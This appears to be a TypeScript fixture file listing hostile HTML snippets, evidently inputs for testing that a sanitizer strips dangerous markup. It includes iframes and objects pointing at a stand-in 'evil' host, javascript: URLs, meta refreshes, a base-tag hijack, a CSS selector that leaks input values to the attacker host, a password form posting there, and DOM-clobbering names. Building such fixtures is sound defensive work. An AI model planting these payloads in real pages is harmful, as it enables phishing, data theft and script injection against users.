import { evil, type HostileHtmlByKind } from "./html-by-kind.ts";

/** What would reach beyond its text: to other hosts, or to the rest of the page. */
export const reachingHtml: HostileHtmlByKind = {
  "a frame": {
    "of another host": `<iframe src="${evil}"></iframe>`,
    "with a document in an attribute": '<iframe srcdoc="<script>parent.pwned()</script>"></iframe>',
    "with a script's address": '<iframe src="javascript:parent.pwned()"></iframe>',
    "an object": `<object data="${evil}/x.swf"><param name="x" value="y"></object>`,
    "an embedded file": `<embed src="${evil}/x.swf">`,
    "an applet": `<applet code="X" archive="${evil}/x.jar"></applet>`,
    "a set of frames": `<frameset><frame src="${evil}"></frameset>`,
    "a portal and a fenced frame": `<portal src="${evil}"></portal><fencedframe></fencedframe>`,
  },
  "the page's own head": {
    base: `<base href="${evil}/"><a href="holder">Ссылка</a>`,
    "a refresh": `<meta http-equiv="refresh" content="0;url=${evil}">`,
    "a policy": `<meta http-equiv="Content-Security-Policy" content="default-src *">`,
    "a style sheet": `<link rel="stylesheet" href="${evil}/x.css">`,
    "hints to fetch ahead": `<link rel="prefetch" href="${evil}/x"><link rel="dns-prefetch" href="${evil}">`,
    "a style with an import": `<style>@import url("${evil}/x.css"); body { display: none }</style><p>Текст</p>`,
    "html, head and body":
      '<html manifest="/x"><head><title>Другая</title></head><body class="x"><p>Текст</p></body></html>',
    "a refresh to a script": '<meta http-equiv="refresh" content="0;url=javascript:pwned()">',
    cookies: '<meta http-equiv="set-cookie" content="esk_cc=evil"><meta name="referrer" content="unsafe-url">',
    "an encoding": '<meta charset="utf-7"><meta http-equiv="content-type" content="text/html; charset=iso-2022-jp">',
    "a manifest and an icon": `<link rel="manifest" href="${evil}/x.json"><link rel="icon" href="${evil}/x.ico"><link rel="modulepreload" href="${evil}/x.js">`,
  },
  "a look": {
    "a picture in a style": `<p style="background:url(${evil}/x.png)">Текст</p>`,
    "above everything": '<p style="position:fixed;inset:0;z-index:9999">Поверх всего</p>',
    "scripts in styles of old browsers":
      '<p style="width:expression(pwned());behavior:url(x.htc);-moz-binding:url(x.xml)">Текст</p>',
    "names, classes and languages of the page": '<p class="container" id="root" hidden lang="en" dir="rtl">Текст</p>',
    "pictures behind a table": `<table background="${evil}/x.png" bgcolor="red"><tr><td background="${evil}/y.png">1</td></tr></table>`,
    "old elements": '<font color="red" size="7"><center><blink>Текст</blink></center></font>',
    "a mark with a style": '<mark style="all:unset" class="x" onclick="pwned()">Ключ</mark>',
    "a style that asks letter by letter": `<style>input[value^="a"] { background: url(${evil}/a) }</style><p>Текст</p>`,
    "entities in a style": `<p style="background:&#117;rl(${evil}/x.png)">Текст</p>`,
    "a font elsewhere": `<style>@font-face { font-family: x; src: url(${evil}/x.woff2) } p { font-family: x }</style><p>Текст</p>`,
  },
  "a form": {
    "that asks for a password": `<form action="${evil}" method="post"><input name="password" type="password" autofocus><button>Войти</button></form>`,
    "a button with an action":
      '<button formaction="javascript:pwned()" type="submit" popovertarget="root">Войти</button>',
    "an input as a picture": '<input type="image" src="x" onerror="pwned()"><isindex action="javascript:pwned()">',
    "what may be edited or dragged":
      '<p contenteditable="true" draggable="true" accesskey="s">Текст</p><label for="search">Поиск</label>',
    "a dialog": '<dialog open><form method="dialog"><button>ОК</button></form></dialog>',
    "a button of a form elsewhere": `<button form="search" formaction="${evil}" formmethod="post">Найти</button><input form="search" name="q">`,
    "a key and a question": '<keygen name="x"><command type="radio" icon="x" onclick="pwned()"></command>',
  },
  "a request elsewhere": {
    "a picture": `<img src="${evil}/x.png">`,
    "a picture without a scheme": "<img src=//evil.example/x.png>",
    "a picture with a backslash": '<img src="/\\evil.example/x.png">',
    "a picture of a network drive": '<img src="\\\\evil.example\\x.png">',
    "a picture with a tab in its slashes": '<img src="/\t/evil.example/x.png">',
    "a set of pictures": `<img src="/media/x.png" srcset="${evil}/x.png 2x" sizes="100vw" crossorigin longdesc="${evil}">`,
    "the sources of a picture": `<picture><source srcset="${evil}/x.webp"><img src="/media/x.png" alt="Карта"></picture>`,
    "a video and a sound": `<video src="${evil}/x.mp4" poster="${evil}/x.png" autoplay></video><audio src="${evil}/x.mp3" autoplay></audio>`,
    "a ping of a link": `<a href="/holder" ping="${evil}" attributionsrc="${evil}" download>Ссылка</a>`,
    "a source of a quotation, a user in an address": `<blockquote cite="${evil}"><p>Текст</p></blockquote><img src="https://127.0.0.1@evil.example/x.png">`,
    "areas of a map": `<map name="m"><area href="javascript:pwned()"></map><img src="/media/x.png" usemap="#m" ismap>`,
    "a picture with a user in its address": '<img src="https://portal.example:x@evil.example/x.png">',
    "a background and a sound of old browsers": `<body background="${evil}/x.png"></body><bgsound src="${evil}/x.wav">`,
  },
  "the page's other windows and names": {
    "a new window with an opener": `<a href="${evil}" target="_blank" rel="opener">Ссылка</a>`,
    "the top window": `<a href="${evil}" target="_top" rel="nofollow">Ссылка</a>`,
    "a new window without a scheme": "<a href=//evil.example target=_blank>Ссылка</a>",
    "a backslash in a link": `<a href="/\\evil.example">Ссылка</a>`,
    "names of the page's objects":
      '<a id="config" name="config" href="/holder">Ссылка</a><form id="config" name="x"></form>',
    "names of the document's own":
      '<img name="getElementById" id="cookie" src="/media/x.png"><a name="currentScript">Имя</a>',
    "names of every object": '<p id="__proto__" __proto__="x" constructor="y">Текст</p>',
    "elements of the page's own":
      '<a is="x-link" slot="x" part="y" nonce="z" href="/holder">Ссылка</a><x-link>Текст</x-link>',
  },
};
